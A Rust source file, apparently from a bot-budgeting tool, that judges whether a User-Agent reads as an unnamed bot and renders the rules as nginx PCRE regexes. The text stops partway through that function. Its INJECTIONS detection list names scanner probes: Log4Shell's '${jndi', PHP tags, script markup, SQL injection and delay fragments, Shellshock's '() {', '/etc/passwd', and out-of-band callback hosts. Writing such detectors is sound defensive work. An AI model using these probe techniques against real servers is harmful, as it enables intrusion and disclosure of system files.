//! Bots the catalogue does not name: a User-Agent that reads as a bot is
//! counted and budgeted as one (purpose `unknown-bot`), never taken for a
//! person.
//!
//! A User-Agent reads as a bot when it has, outside the comments that
//! describe a device:
//!
//! - a word of the field ([`SUFFIX_WORDS`] ending a word: `Rivetbot`,
//!   `WebCrawler`, `site-checker`; [`PREFIX_WORDS`] starting one:
//!   `crawling`, `spider-`), and a device model is not a word of the field:
//!   the comments of Android and TV User-Agents (`(Linux; Android 13; CUBOT
//!   P60)`, `Instagram ... Android (...; CUBOT; ...)`) are left out;
//! - a headless browser's or an automation tool's marker ([`HEADLESS`]);
//! - a contact address introduced by `+` (`+http://...`, `+www.`), the
//!   crawlers' convention;
//! - an e-mail address, written plainly (`noc@example.com`) or spelled out
//!   as people write one to hide it from harvesters (`ops at example dot
//!   com`, `ops[at]example.com`): a browser's User-Agent holds none;
//! - a web address (`http://`, `https://`, `www.`), with or without a
//!   browser engine: a browser's User-Agent holds none either, while the
//!   screenshot services and page testers that send a browser's name add
//!   their own (`... Safari/537.36 (http://www.shrinktheweb.com)`);
//! - a scanner's probe where a name goes ([`INJECTIONS`]: code or a
//!   template, `${jndi:`, `<?php`, `{{.`, `<script`, an SQL `(select `; or
//!   the out-of-band host a scanner plants to see who calls it back,
//!   `*.burpcollaborator.net`, `*.oastify.com`, `*.interact.sh`);
//! - the shape of a script's User-Agent ([`script_shape`]): one product and
//!   nothing else (`Hakai/2.0`, `python`, `My User Agent 1.0`), unless it
//!   names a device or a player (`iPhone15`, `iTunes-AppleTV/4.1`), or a bare
//!   `Mozilla/5.0`, `Mozilla/5.0 Name` or `Mozilla/5.0 (compatible; Name/1.0)`;
//!
//! or, with no browser engine in it ([`ENGINES`]), a first
//! product that is an HTTP library's name ([`LIBRARY_WORDS`]), or a
//! language runtime's or a package manager's product as the first one
//! ([`RUNTIMES`]: `Java/1.8.0_121`, `npm/6.14.12`, `Debian APT-HTTP/1.3`).
//!
//! Every rule but the script's shape needs one of [`needles`] (or an `@`)
//! somewhere in the User-Agent: the matcher's prefilter looks for them, so a
//! browser's User-Agent, which has none, is answered by [`script_shape`]
//! alone, which gives up at its first comment.
//! The stock render writes the same rules for nginx's PCRE ([`pcre`]); a
//! test runs both on the same strings.

/// Words that make a bot when they end a word (the next byte is not a letter).
/// The tools' words (`extractor`, `analyzer`, `downloader`) name programs
/// that fetch pages to take something from them: `Email Extractor/29`,
/// `Akamai_Site_Analyzer`, `RealPlayer Downloader/1750`.
pub const SUFFIX_WORDS: [&str; 21] = [
    "bot",
    "bots",
    "crawler",
    "crawlers",
    "spider",
    "spiders",
    "slurp",
    "scraper",
    "scrapers",
    "fetcher",
    "checker",
    "monitor",
    "preview",
    "archiver",
    "indexer",
    "harvester",
    "validator",
    "extractor",
    "analyzer",
    "analyser",
    "downloader",
];

/// Words that make a bot when they start a word (the byte before is not a letter).
/// `scanner` only so (`jsjcw_scanner`, not `CamScanner`); Apache Nutch's name
/// is one: its crawlers send `TheirName/Nutch-1.7`.
pub const PREFIX_WORDS: [&str; 8] = ["crawl", "spider", "scraper", "scraping", "scrapy", "scanner", "monitoring", "nutch"];

/// Markers of headless browsers and browser automation, anywhere; and of the
/// command-line tools that render a page into a file from a WebKit without a
/// window (`wkhtmltopdf`, `wkhtmltoimage`, `webkit2png`).
pub const HEADLESS: [&str; 12] =
    ["headless", "phantomjs", "selenium", "webdriver", "playwright", "puppeteer", "htmlunit", "jsdom", "lightpanda", "slimerjs", "wkhtmlto", "webkit2png"];

/// A scanner's probe where a name goes: Log4Shell's `${jndi:`, PHP's open
/// tags, a Go template left unfilled, markup (a doctype, a comment or an
/// entity, a script, an SVG or an image with its handlers, a `javascript:`
/// address, markup escaped as `&lt;`), SQL's subqueries and delays,
/// Shellshock's function definition, a path to the password file;
/// and the out-of-band hosts of the scanners that plant them (Burp Suite's
/// Collaborator, `burpcollaborator.net` and `oastify.com`; ProjectDiscovery's
/// interactsh, `interact.sh` and the `oast.*` domains; `dnslog.cn`,
/// `ceye.io`), which no browser's User-Agent holds.
pub const INJECTIONS: [&str; 26] = [
    "${jndi",
    "<?=",
    "<?php",
    "{{.",
    "<script",
    "<!doctype",
    "<!--",
    "<!entity",
    "<svg",
    "<img",
    "javascript:",
    "onerror=",
    "&lt;",
    "(select ",
    "union select",
    "sleep(",
    "waitfor delay",
    "() {",
    "/etc/passwd",
    "burpcollaborator.",
    "oastify.",
    "interact.sh",
    "interactsh",
    ".oast.",
    "dnslog.cn",
    "ceye.io",
];

/// A browser engine's tokens: a User-Agent with one of them is not judged by
/// its addresses or its first product.
pub const ENGINES: [&str; 8] = ["applewebkit", "gecko/", "khtml", "trident/", "presto/", "chrome/", "firefox/", "safari/"];

/// Words of HTTP libraries' names, in the first product of a User-Agent
/// without a browser engine (`Google-HTTP-Java-Client/1.17`, `GRequests/0.10`).
pub const LIBRARY_WORDS: [&str; 6] = ["http", "request", "fetch", "curl", "urllib", "wget"];

/// Products of language runtimes, of their HTTP libraries' defaults and of
/// package managers, in a User-Agent without a browser engine, as its first
/// product (`Java/1.8.0_121`, `npm/6.14.12 node/v10.24.1`, `urlgrabber/3.10
/// yum/3.4.3`) or after a bare `Mozilla/` version and platform comment, as
/// Java's browser plugin writes (`Mozilla/4.0 (Windows 10 10.0)
/// Java/1.8.0_121`); `APT-HTTP/` after anything (`Debian APT-HTTP/1.3`).
/// After another product a runtime is a program's, often a person's
/// (`JOSM/1.5 (...) Java/17.0.9`, the map editor; `Mopidy/3.4.1
/// CPython/3.9.2`), and is no sign. An Android app's own client writes
/// `Dalvik/`, which is not here.
pub const RUNTIMES: [&str; 16] = [
    "java/",
    "cpython/",
    "node.js/",
    "node/v",
    "python/",
    "php/",
    "perl/",
    "ruby/",
    "libwww-perl/",
    "apt-http/",
    "urlgrabber/",
    "gradle/",
    "apache-maven/",
    "npm/",
    "pnpm/",
    "yarn/",
];

/// How an e-mail address's `@` is spelled out (case aside): `ops at
/// example dot com`, `ops [at] example.com`, `ops(at)example.com`.
pub const SPELLED_AT: [&str; 3] = [" at ", "[at]", "(at)"];

/// How the dots of a spelled-out address's domain are written.
const SPELLED_DOT: [&str; 4] = [" dot ", "[dot]", "(dot)", "."];

/// Markers of a device's own comment: an Android phone's, a TV's, a WebView's.
const DEVICE: [&str; 10] = ["android", "hbbtv", "smart-tv", "smarttv", "tizen", "webos", "web0s", "netcast", "cros ", "cros\t"];

/// What every rule needs somewhere in the User-Agent (lower case), besides
/// an `@`, with [`HEADLESS`], [`INJECTIONS`] and [`SPELLED_AT`] ([`needles`]):
/// each rule's words contain one of these.
pub const NEEDLES: [&str; 35] = [
    "bot",
    "crawl",
    "spider",
    "slurp",
    "scrap",
    "scanner",
    "nutch",
    "fetch",
    "checker",
    "monitor",
    "preview",
    "archiver",
    "indexer",
    "harvester",
    "validator",
    "http",
    "www.",
    "request",
    "curl",
    "urllib",
    "wget",
    "extract",
    "analy",
    "download",
    "java/",
    "python/",
    "node",
    "php/",
    "perl/",
    "ruby/",
    "urlgrab",
    "gradle",
    "maven",
    "npm/",
    "yarn/",
];

/// Every needle the matcher's prefilter looks for: [`NEEDLES`], and the
/// headless markers, scanners' probes and spelled-out `@`s, each its own
/// needle.
pub fn needles() -> impl Iterator<Item = &'static str> {
    NEEDLES.iter().chain(&HEADLESS).chain(&INJECTIONS).chain(&SPELLED_AT).copied()
}

/// Which rule found a bot.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Signal {
    /// A word of the field.
    Word,
    /// A headless browser's or an automation tool's marker.
    Headless,
    /// A scanner's probe where a name goes: code, a template or an
    /// out-of-band host.
    Injection,
    /// A `+http`, `+https`, `+www.` or `+` e-mail contact.
    Contact,
    /// An e-mail address, plain or spelled out.
    Mailbox,
    /// The shape of a script's User-Agent.
    Shape,
    /// A web address (`http://`, `https://`, `www.`), which a browser's User-Agent never holds.
    Address,
    /// A first product named like an HTTP library, with no browser engine.
    Library,
    /// A runtime's or a package manager's product, with no browser engine.
    Runtime,
}

impl Signal {
    pub fn as_str(self) -> &'static str {
        match self {
            Signal::Word => "a bot word",
            Signal::Headless => "a headless browser's marker",
            Signal::Injection => "a scanner's probe where a name goes",
            Signal::Contact => "a +http contact",
            Signal::Mailbox => "an e-mail address",
            Signal::Shape => "a script's shape: one product, or a bare Mozilla",
            Signal::Address => "a web address",
            Signal::Library => "an HTTP library's name and no browser engine",
            Signal::Runtime => "a runtime's or a package manager's product and no browser engine",
        }
    }
}

/// A bot the catalogue does not name: why, and its name (start and length
/// in the User-Agent; see [`name`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Bot {
    pub signal: Signal,
    pub token: Option<(usize, usize)>,
}

/// Whether `ua` reads as a bot, and its name.
pub fn bot(ua: &[u8]) -> Option<Bot> {
    let found = |signal, at| Some(Bot { signal, token: name(ua, at) });
    if let Some(at) = word_at(ua) {
        return found(Signal::Word, Some(at));
    }
    if let Some(at) = HEADLESS_SET.find(ua, |_, _| true) {
        return found(Signal::Headless, Some(at));
    }
    if INJECTION_SET.find(ua, |_, _| true).is_some() {
        return found(Signal::Injection, None);
    }
    let signal = if plus_contact(ua) {
        Signal::Contact
    } else if script_shape(ua) {
        Signal::Shape
    } else if email(ua) || spelled_email(ua) {
        Signal::Mailbox
    } else if web_address(ua) {
        Signal::Address
    } else if engine(ua) {
        return None;
    } else if library(ua) {
        Signal::Library
    } else if let Some(at) = runtime_at(ua) {
        // named by the runtime's product (`Java`, `npm`, `APT-HTTP`)
        return Some(Bot { signal: Signal::Runtime, token: token_around(ua, at) });
    } else {
        return None;
    };
    found(signal, None)
}

fn engine(ua: &[u8]) -> bool {
    ENGINE_SET.find(ua, |_, _| true).is_some()
}

/// Words looked for case-insensitively in one pass over a User-Agent: at
/// each byte only the words that start with it and the byte after it are
/// compared, so a long string with none of them costs a table read a byte,
/// not a comparison a byte and a word.
pub struct WordSet {
    words: &'static [&'static str],
    /// Bit i: word i starts with this byte (either case).
    by_first: [u32; 256],
    /// Bit i: word i's second byte is this byte (either case), or it is one
    /// byte long. Index 0 also stands for the end of the string.
    by_second: [u32; 256],
}

impl WordSet {
    /// At most 32 words, lower case.
    pub const fn new(words: &'static [&'static str]) -> WordSet {
        assert!(words.len() <= 32, "a word set holds at most 32 words");
        let mut by_first = [0u32; 256];
        let mut by_second = [0u32; 256];
        let mut i = 0;
        while i < words.len() {
            let word = words[i].as_bytes();
            assert!(!word.is_empty() && (word.len() == 1 || word[1] != 0), "a word has a byte, and no NUL second");
            by_first[word[0].to_ascii_lowercase() as usize] |= 1 << i;
            by_first[word[0].to_ascii_uppercase() as usize] |= 1 << i;
            if word.len() == 1 {
                let mut b = 0;
                while b < 256 {
                    by_second[b] |= 1 << i;
                    b += 1;
                }
            } else {
                by_second[word[1].to_ascii_lowercase() as usize] |= 1 << i;
                by_second[word[1].to_ascii_uppercase() as usize] |= 1 << i;
            }
            i += 1;
        }
        WordSet { words, by_first, by_second }
    }

    /// The first place of `hay` where a word starts and `accept(place,
    /// word's index)` holds.
    pub fn find(&self, hay: &[u8], mut accept: impl FnMut(usize, usize) -> bool) -> Option<usize> {
        for (place, b) in hay.iter().enumerate() {
            let mut starting = self.by_first[usize::from(*b)];
            if starting == 0 {
                continue;
            }
            // and whose second byte follows (at the end, only a word of one byte)
            starting &= self.by_second[hay.get(place + 1).map_or(0, |n| usize::from(*n))];
            while starting != 0 {
                let w = starting.trailing_zeros() as usize;
                starting &= starting - 1;
                if starts_ci(&hay[place..], self.words[w].as_bytes()) && accept(place, w) {
                    return Some(place);
                }
            }
        }
        None
    }
}

/// [`SUFFIX_WORDS`] then [`PREFIX_WORDS`], for one pass.
const FIELD_WORDS: [&str; SUFFIX_WORDS.len() + PREFIX_WORDS.len()] = {
    let mut all = [""; SUFFIX_WORDS.len() + PREFIX_WORDS.len()];
    let mut i = 0;
    while i < all.len() {
        all[i] = if i < SUFFIX_WORDS.len() { SUFFIX_WORDS[i] } else { PREFIX_WORDS[i - SUFFIX_WORDS.len()] };
        i += 1;
    }
    all
};
static FIELD_SET: WordSet = WordSet::new(&FIELD_WORDS);
static HEADLESS_SET: WordSet = WordSet::new(&HEADLESS);
static INJECTION_SET: WordSet = WordSet::new(&INJECTIONS);
static ENGINE_SET: WordSet = WordSet::new(&ENGINES);
static WEB_ADDRESS_SET: WordSet = WordSet::new(&["http://", "https://", "www."]);
static RUNTIME_SET: WordSet = WordSet::new(&RUNTIMES);
static SPELLED_AT_SET: WordSet = WordSet::new(&SPELLED_AT);

/// A bot's name: the token holding its bot word or marker (at `at`), unless
/// that is a web address's or is the bare word (`Bot/1.0`); else its first
/// product (see [`first_product`]); else the host of its contact or address
/// (`+https://whatis.contentkingapp.com` names `whatis.contentkingapp.com`).
fn name(ua: &[u8], at: Option<usize>) -> Option<(usize, usize)> {
    let bare = |(s, n): (usize, usize)| {
        let t = &ua[s..s + n];
        SUFFIX_WORDS.iter().chain(&PREFIX_WORDS).any(|w| t.eq_ignore_ascii_case(w.as_bytes()))
    };
    at.and_then(|at| token_around(ua, at).filter(|t| !bare(*t) && !in_address(ua, t.0)))
        .or_else(|| first_product(ua).filter(|(s, _)| !in_address(ua, *s)))
        .or_else(|| address_host(ua))
}

/// Whether `at` is in a web address: its word (between spaces, tabs and
/// the separators of comments) starts with `http`, `www.` or `+`, or holds `://`.
fn in_address(ua: &[u8], at: usize) -> bool {
    let separator = |b: &u8| matches!(b, b' ' | b'\t' | b'(' | b')' | b';');
    let start = ua[..at].iter().rposition(separator).map_or(0, |p| p + 1);
    let end = ua[at..].iter().position(separator).map_or(ua.len(), |p| at + p);
    let word = &ua[start..end];
    word.first() == Some(&b'+') || starts_ci(word, b"http") || starts_ci(word, b"www.") || contains(word, b"://")
}

/// The host of the first web address (`http://`, `https://` or `www.`), or
/// the domain of the first e-mail address.
fn address_host(ua: &[u8]) -> Option<(usize, usize)> {
    let host_byte = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-');
    let web = [&b"://"[..], b"www."].iter().filter_map(|m| find(ua, m).map(|i| if m[0] == b':' { i + 3 } else { i })).min();
    let at = web.or_else(|| ua.iter().position(|b| *b == b'@').map(|i| i + 1))?;
    let n = ua[at..].iter().take_while(|b| host_byte(b)).count().min(MAX_TOKEN);
    (n > 0).then_some((at, n))
}

/// Words of the devices and players whose own User-Agent is one product
/// (`iPhone15`, `Apple-iPad2C7/1002.329`, `Karbonn K595 WAP-Browser/1.0.0`,
/// `iTunes-AppleTV/4.1`, `bPod`, `nook browser/1.0`), and of a browser's own
/// fetcher ([`BROWSER_FETCHERS`]).
pub const LONE_DEVICES: [&str; 9] = ["iphone", "ipad", "apple", "wap", "browser", "tv", "pod", "nook", "mozac"];

/// The first products of a browser's own HTTP client, which fetches for the
/// person using it: `MozacFetch/49.0` (Mozilla's Android Components, which
/// Firefox for Android downloads a person's files with). Neither the
/// script's shape nor an HTTP library's name makes them a bot.
pub const BROWSER_FETCHERS: [&str; 1] = ["mozac"];

/// The shape of a script's User-Agent: one product and nothing else (a name
/// of letters, digits, spaces and `._:%-`, then at most `/` and a version),
/// with none of [`LONE_DEVICES`]; or `Mozilla/` and a version, then nothing,
/// one name, `(compatible)` or `(compatible; Name/version)`.
/// A browser's User-Agent fails at its first comment.
pub fn script_shape(ua: &[u8]) -> bool {
    // most browsers: a comment after `Mozilla/5.0`, and more after it
    if ua.starts_with(b"Mozilla/5.0 (") && ua.last() != Some(&b')') {
        return false;
    }
    // the first product's name: most strings have none, or one followed by neither `/`
    // nor the end
    let n = NAME_BYTES.leading(ua);
    if n == 0 || n < ua.len() && ua[n] != b'/' {
        return false;
    }
    shape_after_name(ua, n)
}

/// [`script_shape`] past a name of `n` bytes, which is all of `ua` or
/// followed by a `/` (out of line: the strings that get here are few).
#[inline(never)]
fn shape_after_name(ua: &[u8], n: usize) -> bool {
    if n == ua.len() {
        return !lone_device(ua);
    }
    let after = &ua[n + 1..];
    let v = usize::from(matches!(after.first(), Some(b'v' | b'V')));
    let digits = after[v..].iter().position(|b| !(b.is_ascii_digit() || *b == b'.')).unwrap_or(after.len() - v);
    if digits == 0 || !after[v].is_ascii_digit() {
        return false;
    }
    let rest = &after[v + digits..];
    if rest.is_empty() {
        return !lone_device(ua);
    }
    if v == 1 {
        return false;
    }
    // `Mozilla/5.0` and a name, or a `compatible` comment that ends the User-Agent
    let word = |w: &[u8]| !w.is_empty() && w.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
    let mozilla = || ua[..n].eq_ignore_ascii_case(b"mozilla");
    if ua.last() != Some(&b')') {
        return rest.strip_prefix(b" ").is_some_and(word) && mozilla();
    }
    let Some(inner) = rest.strip_prefix(b" (").and_then(|r| r.strip_suffix(b")")) else { return false };
    if !mozilla() || !starts_ci(inner, b"compatible") {
        return false;
    }
    let Some(item) = inner[10..].strip_prefix(b"; ") else { return inner.len() == 10 };
    // a version, as the scripts write it: `(compatible; Amiga-AWeb)` is a browser
    let version = |v: &[u8]| v.first().is_some_and(u8::is_ascii_digit) && v.iter().all(|b| b.is_ascii_digit() || *b == b'.');
    item.iter().position(|b| *b == b'/').is_some_and(|p| word(&item[..p]) && version(&item[p + 1..]))
}

/// Whether a lone product names a device or a player ([`LONE_DEVICES`]):
/// one walk of `ua`, the names compared only at a place that holds the
/// first letter of one of them.
fn lone_device(ua: &[u8]) -> bool {
    (0..ua.len()).any(|at| {
        DEVICE_FIRST_BYTES[usize::from(ua[at])] && LONE_DEVICES.iter().any(|d| ua.get(at..at + d.len()).is_some_and(|w| w.eq_ignore_ascii_case(d.as_bytes())))
    })
}

/// The first bytes of [`LONE_DEVICES`], in both cases.
static DEVICE_FIRST_BYTES: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    while i < LONE_DEVICES.len() {
        let b = LONE_DEVICES[i].as_bytes()[0];
        t[b.to_ascii_lowercase() as usize] = true;
        t[b.to_ascii_uppercase() as usize] = true;
        i += 1;
    }
    t
};

/// The bytes of a lone product's name: letters, digits, space and `._:%-`.
static NAME_BYTES: crate::byte_class::ByteClass = crate::byte_class::ByteClass::new({
    let mut t = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        t[b] = c.is_ascii_alphanumeric() || matches!(c, b' ' | b'.' | b'_' | b':' | b'%' | b'-');
        b += 1;
    }
    t
});

/// Where the first word of the field starts, outside the device comments.
fn word_at(ua: &[u8]) -> Option<usize> {
    let letter = |i: usize| ua.get(i).is_some_and(|b| b.is_ascii_alphabetic());
    FIELD_SET.find(ua, |at, w| {
        let field_word = if w < SUFFIX_WORDS.len() { !letter(at + FIELD_WORDS[w].len()) } else { at == 0 || !letter(at - 1) };
        // a device comment's text is no word (the '(' itself starts none)
        field_word && !device_comments(ua).any(|(open, end)| open < at && at < end)
    })
}

/// Whether a claim may start at `at` as far as device comments go: outside
/// them, anywhere; inside one (see [`device_comments`]), only where an item
/// starts with a `Name/version` product (`(Linux; Android 8.0; Pixel 2
/// Build/OPD3; Storebot-Google/1.0)`), since a phone's or a TV's model is no
/// product (`(Linux; Android 5.1; DART KZ07)`).
pub fn claim_in_device_comment(ua: &[u8], at: usize) -> bool {
    let Some((open, _)) = device_comments(ua).take_while(|(open, _)| *open < at).find(|(open, end)| *open < at && at < *end) else { return true };
    // an item starts here: after the '(' or a ';', and spaces
    let before = ua[open + 1..at].iter().rposition(|b| !matches!(b, b' ' | b'\t')).map(|p| ua[open + 1 + p]);
    let item_start = before.is_none_or(|b| b == b';');
    let token = ua[at..].iter().take_while(|b| !matches!(b, b' ' | b'\t' | b';' | b'(' | b')' | b'/')).count();
    item_start && token > 0 && ua.get(at + token) == Some(&b'/')
}

/// The device comments, in order, as (the '(', the end of its text): a
/// comment's text runs to the next '(' or ')', and it describes a device when
/// it holds one of [`DEVICE`] or `; wv`, or when it follows an `Android`
/// product (`Android (22/5.1; ...)`).
fn device_comments(ua: &[u8]) -> impl Iterator<Item = (usize, usize)> + '_ {
    ua.iter().enumerate().filter(|(_, b)| **b == b'(').filter_map(move |(open, _)| {
        let end = ua[open + 1..].iter().position(|b| matches!(b, b'(' | b')')).map_or(ua.len(), |p| open + 1 + p);
        let text = &ua[open + 1..end];
        let device = DEVICE.iter().any(|m| contains(text, m.as_bytes())) || webview(text) || after_android(ua, open);
        device.then_some((open, end))
    })
}

/// `;` then spaces or tabs then `wv`: an Android WebView's comment.
fn webview(text: &[u8]) -> bool {
    text.iter().enumerate().any(|(i, b)| {
        *b == b';' && {
            let rest = &text[i + 1..];
            let gap = rest.iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
            rest[gap..].len() >= 2 && rest[gap..gap + 2].eq_ignore_ascii_case(b"wv")
        }
    })
}

/// Whether the `(` at `open` follows the word `android` (at a token's start)
/// and at most one space or tab.
fn after_android(ua: &[u8], open: usize) -> bool {
    let word_end = if open > 0 && matches!(ua[open - 1], b' ' | b'\t') { open - 1 } else { open };
    word_end >= 7
        && ua[word_end - 7..word_end].eq_ignore_ascii_case(b"android")
        && (word_end == 7 || matches!(ua[word_end - 8], b' ' | b'\t' | b'(' | b';' | b','))
}

/// A token's bytes: printable ASCII but the separators of products and comments.
fn token_byte(b: u8) -> bool {
    b.is_ascii_graphic() && !matches!(b, b'(' | b')' | b';' | b',' | b'/' | b'+')
}

/// A bot's name is at most this long.
pub const MAX_TOKEN: usize = 64;

/// The token around `at` (its first [`MAX_TOKEN`] bytes).
fn token_around(ua: &[u8], at: usize) -> Option<(usize, usize)> {
    let start = ua[..at].iter().rposition(|b| !token_byte(*b)).map_or(0, |p| p + 1);
    let end = ua[at..].iter().position(|b| !token_byte(*b)).map_or(ua.len(), |p| at + p);
    (end > start).then_some((start, (end - start).min(MAX_TOKEN)))
}

/// The first product's name; for a `Mozilla/...` User-Agent with no browser
/// engine, the first item of its first comment that is not `compatible`, `U`
/// or a platform (`Windows NT 10.0`, `X11`), or with no comment the product
/// after it; or none.
fn first_product(ua: &[u8]) -> Option<(usize, usize)> {
    let start = ua.iter().position(|b| !matches!(b, b' ' | b'\t'))?;
    let first = token_around(ua, start);
    let (s, n) = first?;
    if !ua[s..s + n].eq_ignore_ascii_case(b"mozilla") {
        return first;
    }
    // a browser's comment describes its platform and device
    if engine(ua) {
        return None;
    }
    let Some(open) = ua.iter().position(|b| *b == b'(') else {
        // `Mozilla/5.0 Name`: the product after it
        let next = s + n + ua[s + n..].iter().position(|b| matches!(b, b' ' | b'\t'))?;
        return token_around(ua, next + 1).filter(|(t, _)| *t == next + 1);
    };
    let mut i = open + 1;
    while i < ua.len() && ua[i] != b')' {
        while i < ua.len() && matches!(ua[i], b' ' | b'\t' | b';') {
            i += 1;
        }
        let Some((s, n)) = token_around(ua, i).filter(|(s, _)| *s == i) else { break };
        let item = &ua[s..s + n];
        if !PLATFORMS.iter().any(|p| starts_ci(item, p.as_bytes())) && !item.eq_ignore_ascii_case(b"u") {
            return Some((s, n));
        }
        i = s + n;
        while i < ua.len() && !matches!(ua[i], b';' | b')') {
            i += 1;
        }
    }
    None
}

/// Comment items of browsers' User-Agents that name no bot.
const PLATFORMS: [&str; 12] = ["compatible", "windows", "macintosh", "x11", "linux", "iphone", "ipad", "android", "cros", "ubuntu", "msie", "en-"];

/// `+http:`, `+https:`, `+www.` or `+` and an e-mail address, with at most
/// one space or tab after the `+`.
fn plus_contact(ua: &[u8]) -> bool {
    ua.iter().enumerate().any(|(i, b)| {
        *b == b'+' && {
            let rest = &ua[i + 1..];
            let rest = if rest.first().is_some_and(|b| matches!(b, b' ' | b'\t')) { &rest[1..] } else { rest };
            let mailbox = rest.iter().take_while(|b| email_name(**b)).count();
            starts_ci(rest, b"http:") || starts_ci(rest, b"https:") || starts_ci(rest, b"www.") || mailbox > 0 && email_at(rest, mailbox)
        }
    })
}

fn email_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-')
}

/// Whether `ua[i]` is the `@` of an e-mail address's domain: a label, `.`, a letter.
fn email_at(ua: &[u8], i: usize) -> bool {
    ua.get(i) == Some(&b'@') && {
        let rest = &ua[i + 1..];
        let n = rest.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
        n > 0 && rest.get(n) == Some(&b'.') && rest.get(n + 1).is_some_and(|b| b.is_ascii_alphabetic())
    }
}

/// `http://`, `https://` or `www.` anywhere.
fn web_address(ua: &[u8]) -> bool {
    WEB_ADDRESS_SET.find(ua, |_, _| true).is_some()
}

/// An e-mail address: a byte of a name, `@`, a domain label, `.`, a letter.
fn email(ua: &[u8]) -> bool {
    (1..ua.len()).any(|i| email_name(ua[i - 1]) && email_at(ua, i))
}

/// An e-mail address spelled out ([`SPELLED_AT`]): a byte of a name, at most
/// one space, the spelled `@`, at most one space, a domain label (letters,
/// digits, `-`), a dot written one of [`SPELLED_DOT`]'s ways, a letter.
fn spelled_email(ua: &[u8]) -> bool {
    SPELLED_AT_SET
        .find(ua, |at, w| {
            // " at " holds its spaces; a bracketed one may have one each side
            let spaced = SPELLED_AT[w].starts_with(' ');
            let before = if !spaced && at > 0 && ua[at - 1] == b' ' { at - 1 } else { at };
            let mut after = at + SPELLED_AT[w].len();
            if !spaced && ua.get(after) == Some(&b' ') {
                after += 1;
            }
            let label = ua[after..].iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
            let dot_at = after + label;
            before > 0
                && email_name(ua[before - 1])
                && label > 0
                && SPELLED_DOT.iter().any(|d| starts_ci(&ua[dot_at..], d.as_bytes()) && ua.get(dot_at + d.len()).is_some_and(u8::is_ascii_alphabetic))
        })
        .is_some()
}

/// Where a product of [`RUNTIMES`] starts that is the first product (after
/// any spaces or tabs, or after a bare `Mozilla/` version and one comment,
/// each with at most one space or `+` after it), or is `APT-HTTP/` after a
/// byte that is not a name's (a letter, a digit, `.`, `_`, `-`).
fn runtime_at(ua: &[u8]) -> Option<usize> {
    let lead = ua.iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
    let first = lead + plugin_prefix(&ua[lead..]);
    RUNTIME_SET.find(ua, |at, w| at == lead || at == first || RUNTIMES[w] == "apt-http/" && (at == 0 || !email_name(ua[at - 1])))
}

/// The length of a Java plugin's `Mozilla/4.0 (Windows 10 10.0) ` at the
/// start of `ua` (`Mozilla/`, digits and dots, at most one space or `+`, a
/// comment with no parenthesis in it, at most one space or `+`), or 0.
fn plugin_prefix(ua: &[u8]) -> usize {
    let gap = |i: usize| usize::from(matches!(ua.get(i), Some(b' ' | b'+')));
    if !starts_ci(ua, b"mozilla/") {
        return 0;
    }
    let version = ua[8..].iter().take_while(|b| b.is_ascii_digit() || **b == b'.').count();
    let open = 8 + version + gap(8 + version);
    if version == 0 || ua.get(open) != Some(&b'(') {
        return 0;
    }
    let Some(close) = ua[open + 1..].iter().position(|b| matches!(b, b'(' | b')')).map(|p| open + 1 + p).filter(|c| ua[*c] == b')') else { return 0 };
    close + 1 + gap(close + 1)
}

/// The first product (up to a space, tab, `/` or a comment's separator) has
/// a library word.
fn library(ua: &[u8]) -> bool {
    let start = ua.iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
    let len = ua[start..].iter().take_while(|b| !matches!(b, b' ' | b'\t' | b'/' | b';' | b'(' | b')' | b',')).count();
    let first = &ua[start..start + len];
    !BROWSER_FETCHERS.iter().any(|f| starts_ci(first, f.as_bytes())) && LIBRARY_WORDS.iter().any(|w| contains(first, w.as_bytes()))
}

fn starts_ci(hay: &[u8], prefix: &[u8]) -> bool {
    hay.len() >= prefix.len() && hay[..prefix.len()].eq_ignore_ascii_case(prefix)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    find(hay, needle).is_some()
}

/// Where `needle` (not empty) first stands in `hay`, in either case: the rest
/// compared only where its first byte is.
fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    let (first, rest) = needle.split_first()?;
    let (lower, upper) = (first.to_ascii_lowercase(), first.to_ascii_uppercase());
    (0..=hay.len().checked_sub(needle.len())?).find(|&at| (hay[at] == lower || hay[at] == upper) && hay[at + 1..at + needle.len()].eq_ignore_ascii_case(rest))
}

/// The same rules for nginx's PCRE (case-insensitive, `~*`), one regular
/// expression each, in the order [`bot`] tries them: the first that matches
/// makes the User-Agent an unknown bot.
pub fn pcre() -> Vec<String> {
    let words = pcre_words();
    let no_engine = format!("^(?!.*(?:{}))", ENGINES.iter().map(|e| pcre_literal(e)).collect::<Vec<_>>().join("|"));
    let any = |words: &[&str]| words.iter().map(|w| pcre_escaped(w)).collect::<Vec<_>>().join("|");
    vec![
        format!("{}(?:{words})", pcre_outside_devices()),
        any(&HEADLESS),
        any(&INJECTIONS),
        "\\+[ \\t]?(?:https?:|www\\.|[a-z0-9._-]+@[a-z0-9-]+\\.[a-z])".to_string(),
        format!(
            "[a-z0-9._-]@[a-z0-9-]+\\.[a-z]|[a-z0-9._-](?:{}|[ ]?(?:{})[ ]?)[a-z0-9-]+(?:{})[a-z]",
            pcre_escaped(SPELLED_AT[0]),
            any(&SPELLED_AT[1..]),
            any(&SPELLED_DOT)
        ),
        format!("^(?!.*(?:{}))[a-z0-9 ._:%-]+(?:/v?[0-9][0-9.]*)?\\z", any(&LONE_DEVICES)),
        "^mozilla/[0-9][0-9.]*(?: [a-z0-9_.-]+| \\(compatible(?:; [a-z0-9_.-]+/[0-9][0-9.]*)?\\))?\\z".to_string(),
        "https?://|www\\.".to_string(),
        format!(
            "{no_engine}(?![ \\t]*(?:{}))[ \\t]*[^ \\t/;(),]*(?:{})",
            any(&BROWSER_FETCHERS),
            LIBRARY_WORDS.iter().map(|w| pcre_literal(w)).collect::<Vec<_>>().join("|")
        ),
